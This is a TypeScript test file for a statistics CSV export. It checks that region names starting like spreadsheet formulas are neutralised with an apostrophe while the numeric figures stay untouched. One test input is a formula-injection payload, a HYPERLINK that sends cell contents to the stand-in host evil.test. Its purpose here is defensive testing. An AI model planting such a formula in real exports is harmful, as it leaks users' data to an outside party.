// The /statistik CSV as Excel reads it: a region name (free text, editable by admins and full-access
// API tokens) that starts like a formula stays text; the figures stay numbers.
import { describe, expect, test } from "bun:test";
import Papa from "papaparse";
import { csvText } from "./csv.ts";

const parse = (text: string) => {
  expect(text.startsWith("\uFEFF")).toBe(true);
  const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: ";" });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
};

describe("statistics CSV", () => {
  test("a text cell starting with = + - @ TAB or CR is prefixed with ' (not a live formula in Excel)", () => {
    const evil = [
      '=HYPERLINK("http://evil.test/?d="&A1;"Unduh data lengkap")',
      "+1+1",
      "-2+3",
      "@SUM(1)",
      "\t=1+1",
      "\r=1+1",
      "-",
    ];
    const rows = parse(
      csvText(
        ["Wilayah", "Keluarga"],
        evil.map((name) => [name, "12"]),
      ),
    );
    expect(rows[0]).toEqual(["Wilayah", "Keluarga"]);
    expect(rows.slice(1).map((row) => row[0])).toEqual(evil.map((name) => `'${name}`));
    expect(rows.slice(1).map((row) => row[1])).toEqual(evil.map(() => "12"));
  });

  test("figures stay numbers (a negative one too), suppressed cells and plain names are untouched", () => {
    const rows = parse(
      csvText(
        ["Wilayah", "Kode", "Keluarga", "Per 100 keluarga"],
        [
          ["Medansatria", "32.75.01.1004", "1.234", "12,5"],
          ["Harapan Mulya", "32.75.01.1005", "<5", "<5"],
          ["Selisih", "", "-3", "-1.234,5"],
        ],
      ),
    );
    expect(rows.slice(1)).toEqual([
      ["Medansatria", "32.75.01.1004", "1.234", "12,5"],
      ["Harapan Mulya", "32.75.01.1005", "<5", "<5"],
      ["Selisih", "", "-3", "-1.234,5"],
    ]);
  });
});
